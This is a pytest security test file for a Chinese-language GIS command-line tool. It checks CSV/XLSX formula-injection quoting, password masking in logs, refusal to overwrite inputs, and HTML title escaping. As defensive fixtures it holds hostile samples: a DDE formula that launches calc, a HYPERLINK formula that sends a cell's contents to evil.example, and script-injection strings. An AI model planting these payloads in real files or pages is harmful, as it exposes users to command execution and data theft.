"""Issue 14: nothing leaked, nothing overwritten, nothing injected (items 1, 2, 3, 8, 9, 10).

Each test attacks as a careful user's adversary would: hostile names in data, a password in the
store URL, outputs pointed at the store or the inputs, script in a title, math in a layer name.
"""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from click.testing import CliRunner

from dcf_spatial import settings
from dcf_spatial.cli.main import cli
from dcf_spatial.errors import InputError
from dcf_spatial.io.write import csv_safe, write_csv, write_xlsx
from dcf_spatial.outputs_guard import guard_output, guard_outputs
from dcf_spatial.store import catalog
from dcf_spatial.store.backends import mask_url

#: what an attacker puts in a project, township or holder name (issue 14 item 1)
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "=cmd|' /C calc'!A0", "+1+2", "-1+2",
           "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.fixture()
def shipped_store(monkeypatch):
    monkeypatch.delenv("DCF_STORE", raising=False)
    monkeypatch.setattr(settings, "store", settings.default_store)


@pytest.fixture()
def store_copy(tmp_path, monkeypatch):
    """A copy of the shipped store, made the current store (tests may try to destroy it)."""
    path = tmp_path / "store" / "dcf_layers.gpkg"
    path.parent.mkdir()
    shutil.copy(settings.default_store, path)
    monkeypatch.delenv("DCF_STORE", raising=False)
    monkeypatch.setattr(settings, "store", path)
    return path


def _formula_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _all_text(path: Path) -> list[str]:
    """Every text cell; a carriage return read back as the line feed XML makes of it."""
    book = openpyxl.load_workbook(path)
    return [c.value.replace("\n", "\r") for ws in book.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str)]


# --- item 1: formula injection ----------------------------------------------------------------
def test_csv_rule_quotes_formula_leads_and_keeps_numbers():
    frame = pd.DataFrame({"name": HOSTILE + ["正常名称", None], "n": [-1.5] * 8 + [2.0],
                          "=bad header": ["x"] * 9})
    safe = csv_safe(frame)
    assert safe["name"].tolist()[:7] == ["'" + h for h in HOSTILE]
    assert safe["name"].tolist()[7] == "正常名称" and pd.isna(safe["name"].tolist()[8])
    assert safe["n"].tolist()[0] == -1.5  # a negative number stays a number
    assert "'=bad header" in safe.columns


def test_xlsx_helper_writes_hostile_text_as_strings(tmp_path):
    path = write_xlsx({"表": pd.DataFrame({"=h": HOSTILE, "n": range(len(HOSTILE))})}, tmp_path / "x.xlsx")
    assert _formula_cells(path) == []
    assert set(HOSTILE) <= set(_all_text(path))  # the text itself is kept as it was


def test_site_batch_outputs_hold_no_formula(shipped_store, tmp_path):
    park = catalog.read_layer("cluster_parks").set_index("id").loc["park.zhengjia.bearing"]
    p = park.geometry.representative_point()
    table = pd.DataFrame({"项目名称": HOSTILE, "经度": [p.x] * len(HOSTILE), "纬度": [p.y] * len(HOSTILE),
                          "行业": ["轴承"] * len(HOSTILE)})
    src = tmp_path / "项目清单.csv"
    table.to_csv(src, index=False, encoding="utf-8-sig")
    xlsx, out_csv = tmp_path / "结果.xlsx", tmp_path / "结果.csv"
    for out in (xlsx, out_csv):
        res = CliRunner().invoke(cli, ["site", "check", "--batch", str(src), "-o", str(out)])
        assert res.exit_code == 0, res.output
    assert _formula_cells(xlsx) == []
    printable = HOSTILE[:5]  # the reader trims the leading tab / carriage return of the last two
    assert set(printable) <= set(_all_text(xlsx))
    with open(out_csv, encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert {"'" + h for h in printable} <= set(cells)


def test_layers_show_xlsx_and_csv_hold_no_formula(store_copy, tmp_path):
    towns = catalog.read_layer("townships")
    towns.loc[towns.index[0], "name_zh"] = HOSTILE[0]
    catalog.write_layer(towns, "townships", store=store_copy, source="test: hostile name")
    for name in ("t.xlsx", "t.csv"):
        res = CliRunner().invoke(cli, ["layers", "show", "townships", "-o", str(tmp_path / name)])
        assert res.exit_code == 0, res.output
    assert _formula_cells(tmp_path / "t.xlsx") == []
    assert HOSTILE[0] in _all_text(tmp_path / "t.xlsx")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        assert "'" + HOSTILE[0] in [c for row in csv.reader(f) for c in row]


def test_audit_workbook_writer_holds_no_formula(tmp_path):
    from dcf_spatial.land.outputs import _Workbook

    with _Workbook(tmp_path / "a.xlsx") as book:
        book.add("宗地清单", pd.DataFrame({"土地使用权人": HOSTILE, "面积": [-1.0] * len(HOSTILE)}),
                 header_note="本表列出全部宗地。")
    assert _formula_cells(tmp_path / "a.xlsx") == []
    assert set(HOSTILE[:6]) <= set(_all_text(tmp_path / "a.xlsx"))  # (a lone carriage return is dropped)


# --- item 2: credentials ----------------------------------------------------------------------
@pytest.mark.parametrize("text", [
    "postgresql://dcf:SENTINEL-pw@db:5432/gis",
    "postgresql://dcf:SENT@INEL-pw@db:5432/gis?schema=x",  # an unencoded "@" in the password
    "postgresql://dcf@db/gis?sslmode=require&password=SENTINEL-pw",
    "postgresql://dcf@db/gis?password=SENTINEL-pw&schema=x",
    "host=db user=dcf password=SENTINEL-pw dbname=gis",
    "host=db user=dcf password='SENTINEL pw' dbname=gis",
    "PGPASSWORD=SENTINEL-pw dcf layers list",
    "error at postgres://u:SENTINEL-pw@h/d: failed",
])
def test_one_function_masks_every_form(text):
    masked = mask_url(text)
    assert "SENTINEL" not in masked and "INEL-pw" not in masked
    assert "***" in masked


def test_mask_keeps_what_is_not_a_password():
    assert mask_url("postgresql://dcf@db/gis?schema=x") == "postgresql://dcf@db/gis?schema=x"
    assert mask_url("图层库 layers/dcf_layers.gpkg") == "图层库 layers/dcf_layers.gpkg"


def _run_dcf(args, env, cwd):
    return subprocess.run([sys.executable, "-m", "dcf_spatial.cli.main", *args], capture_output=True, text=True,
                          env=env, cwd=cwd, timeout=600)


def test_no_password_in_any_output_of_a_failing_store(tmp_path):
    """A store that cannot be reached: -vv logs and the error name the store, never its password."""
    env = {**os.environ, "PGCONNECT_TIMEOUT": "2"}
    env.pop("DCF_STORE", None)
    sentinel = "Zq9-SENTINEL-pw"
    for url in (f"postgresql://dcf:{sentinel}@127.0.0.1:1/gis",
                f"postgresql://dcf@127.0.0.1:1/gis?password={sentinel}",
                f"postgresql://dcf:{sentinel[:3]}@{sentinel[3:]}@127.0.0.1:1/gis"):
        res = _run_dcf(["-vv", "--store", url, "layers", "list", "-o", str(tmp_path / "l.csv")], env, tmp_path)
        assert res.returncode != 0
        assert "SENTINEL" not in res.stdout + res.stderr, res.stderr
        assert "127.0.0.1" in res.stderr  # the store is still named
    for f in tmp_path.rglob("*"):
        if f.is_file():
            assert "SENTINEL" not in f.read_bytes().decode("utf-8", "replace")


def test_no_password_in_any_output_of_a_postgis_run(tmp_path, request):
    """Against the real test database: every log line (-vv), stdout, stderr and output file."""
    import uuid

    from _stores import drop_schema, require_pg_url, with_schema
    from sqlalchemy.engine import make_url

    password = make_url(require_pg_url()).password
    assert password, "the test database URL carries a password"
    schema = f"t_{uuid.uuid4().hex[:10]}"
    request.addfinalizer(lambda: drop_schema(schema))
    url = with_schema(require_pg_url(), schema)
    env = {k: v for k, v in os.environ.items() if k not in ("DCF_STORE", "PGPASSWORD")}
    runs = [["-vv", "layers", "push", "--to", url],
            ["-vv", "--store", url, "layers", "list", "-o", str(tmp_path / "list.xlsx")],
            ["-vv", "--store", url, "layers", "show", "townships", "-o", str(tmp_path / "show.csv")],
            ["-vv", "--store", url, "site", "check", "--site", "115.80,36.47", "--industry", "轴承",
             "--report", str(tmp_path / "r.html")],
            ["-vv", "--store", url + "_nope", "layers", "list"]]  # a database that does not exist
    seen = ""
    for args in runs:
        res = _run_dcf(args, env, tmp_path)
        seen += res.stdout + res.stderr
    assert password not in seen
    for f in tmp_path.rglob("*"):
        if f.is_file():
            assert password.encode() not in f.read_bytes()
    # PGPASSWORD (libpq's own) works with a URL that holds no password
    assert (tmp_path / "list.xlsx").exists() and (tmp_path / "r.html").exists()
    bare = make_url(url)._replace(password=None).render_as_string(hide_password=False)
    assert password not in bare
    res = _run_dcf(["--store", bare, "layers", "list", "--json"], {**env, "PGPASSWORD": password}, tmp_path)
    assert res.returncode == 0, res.stderr


# --- item 3: overwriting ----------------------------------------------------------------------
def test_export_onto_the_store_is_refused(store_copy, tmp_path):
    before = store_copy.read_bytes()
    res = CliRunner().invoke(cli, ["layers", "export", "townships", "-o", str(store_copy), "--overwrite"])
    assert res.exit_code != 0 and "图层库" in res.output
    assert store_copy.read_bytes() == before
    res = CliRunner().invoke(cli, ["layers", "list", "-o", str(store_copy), "--overwrite"])
    assert res.exit_code != 0 and store_copy.read_bytes() == before


def test_batch_output_onto_its_input_is_refused(shipped_store, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text("项目名称,经度,纬度,行业\n甲,115.8,36.47,轴承\n", encoding="utf-8")
    before = src.read_bytes()
    res = CliRunner().invoke(cli, ["site", "check", "--batch", str(src), "-o", str(src), "--overwrite"])
    assert res.exit_code != 0 and "输入" in res.output
    assert src.read_bytes() == before


def test_two_outputs_on_one_path_are_refused(shipped_store, tmp_path):
    out = tmp_path / "r.html"
    res = CliRunner().invoke(cli, ["site", "check", "--site", "115.80,36.47", "--industry", "轴承",
                                   "--report", str(out), "--map", str(out)])
    assert res.exit_code != 0 and "同一个文件" in res.output
    assert not out.exists()


def test_shapefile_sidecar_is_not_replaced_without_overwrite(store_copy, tmp_path):
    dbf = tmp_path / "x.dbf"
    dbf.write_bytes(b"someone else's table")
    res = CliRunner().invoke(cli, ["layers", "export", "townships", "-o", str(tmp_path / "x.shp")])
    assert res.exit_code != 0 and "x.dbf" in res.output
    assert dbf.read_bytes() == b"someone else's table"
    # with --overwrite the shapefile is replaced, and nothing else that shares its stem
    other = tmp_path / "x.gpkg"
    other.write_bytes(b"keep me")
    res = CliRunner().invoke(cli, ["layers", "export", "townships", "-o", str(tmp_path / "x.shp"), "--overwrite"])
    assert res.exit_code == 0, res.output
    assert other.read_bytes() == b"keep me"


def test_library_guard_refuses_store_inputs_and_twins(store_copy, tmp_path):
    with pytest.raises(InputError, match="图层库"):
        guard_output(store_copy, overwrite=True)
    with pytest.raises(InputError, match="图层库"):
        guard_output(str(store_copy) + "-wal", overwrite=True)
    shp = tmp_path / "in.shp"
    shp.write_bytes(b"")
    (tmp_path / "in.dbf").write_bytes(b"")
    with pytest.raises(InputError, match="输入"):
        guard_output(tmp_path / "in.dbf", overwrite=True, inputs=[shp])
    with pytest.raises(InputError, match="同一个文件"):
        guard_outputs([tmp_path / "a.html", tmp_path / "sub" / ".." / "a.html"])
    with pytest.raises(InputError) as info:
        guard_output(tmp_path / "in.dbf")
    assert info.value.argument == "overwrite"
    assert guard_output(tmp_path / "new.csv", inputs=["115.8,36.4", "POINT (1 2)"]) == tmp_path / "new.csv"


# --- item 8: titles are text ------------------------------------------------------------------
def test_hostile_title_and_file_name_are_text(shipped_store, tmp_path):
    src = tmp_path / "<img src=x onerror=alert(2)>.geojson"
    catalog.read_layer("townships").head(2).to_file(src, driver="GeoJSON")
    out = tmp_path / "m.html"
    res = CliRunner().invoke(cli, ["maps", "file", str(src), "-o", str(out),
                                   "--title", "</title><script>alert(1)</script>"])
    assert res.exit_code == 0, res.output
    html = out.read_text(encoding="utf-8")
    assert "<script>alert(1)" not in html
    assert html.count("<title>") == 1
    assert "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html
    # no title given: the file name is the title, and the page is still offline
    out2 = tmp_path / "m2.html"
    res = CliRunner().invoke(cli, ["maps", "file", str(src), "-o", str(out2)])
    assert res.exit_code == 0, res.output
    assert "<img src=x" not in out2.read_text(encoding="utf-8")


# --- item 9: math text ------------------------------------------------------------------------
def test_dollar_signs_in_names_do_not_break_print_maps(store_copy, tmp_path):
    towns = catalog.read_layer("townships")
    towns.loc[towns.index[0], "name_zh"] = r"$\frac{a}{$ 镇"
    catalog.write_layer(towns, "townships", store=store_copy, source="test: math in a name")
    res = CliRunner().invoke(cli, ["maps", "appendix", "--only", "fig1", "--format", "png", "--out", str(tmp_path)])
    assert res.exit_code == 0, res.output


# --- item 10: numbers and warnings ------------------------------------------------------------
@pytest.mark.parametrize("value", ["nan", "inf", "-inf"])
def test_km_not_a_number_is_refused_as_such(shipped_store, value):
    res = CliRunner().invoke(cli, ["query", "within", "townships", "industrial_clusters", "--km", value])
    assert res.exit_code == 2
    assert "不是一个有限的数" in res.output and "负" not in res.output


def test_python_warnings_reach_users_in_chinese():
    """A command that raises a RuntimeWarning: the user sees a Chinese 提示 line, not numpy's English."""
    import click
    import numpy as np

    from dcf_spatial.cli import main

    @click.command("warn-test")
    def warn_test():
        np.array([1e308]) * 10  # RuntimeWarning: overflow encountered in multiply
        click.echo("done")

    main.COMMANDS["warn-test"] = ("tests.test_security:_unused", "")
    try:
        main.cli.get_command = lambda ctx, name, _orig=main.cli.get_command: (
            warn_test if name == "warn-test" else _orig(ctx, name))
        res = CliRunner().invoke(main.cli, ["warn-test"])
    finally:
        del main.COMMANDS["warn-test"]
        del main.cli.get_command
    assert res.exit_code == 0, res.output
    assert "RuntimeWarning" not in res.output and "overflow" not in res.output
    assert "提示" in res.output and "溢出" in res.output


def test_audit_refuses_to_overwrite_its_own_input(tmp_path):
    """An earlier run's GeoPackage audited again into the same folder: the input is never an output,
    even with --overwrite (docs/security.md)."""
    from click.testing import CliRunner

    from dcf_spatial.cli.main import cli
    from dcf_spatial.sample import write_sample

    files = write_sample(tmp_path / "s", parcels=40, seed=2, imagery=False)
    first = CliRunner().invoke(cli, ["audit", "idle", "--parcels", str(files["parcels"]), "--as-of", "2025-12-31",
                                     "-o", str(tmp_path / "prev"), "--no-map"])
    assert first.exit_code == 0, first.output
    earlier = (tmp_path / "prev" / "idle_audit.gpkg").read_bytes()
    again = CliRunner().invoke(cli, ["audit", "idle", "--parcels", str(tmp_path / "prev" / "idle_audit.gpkg"),
                                     "--as-of", "2025-12-31", "-o", str(tmp_path / "prev"), "--no-map", "--overwrite"])
    assert again.exit_code == 2 and "输入文件" in again.output
    assert (tmp_path / "prev" / "idle_audit.gpkg").read_bytes() == earlier
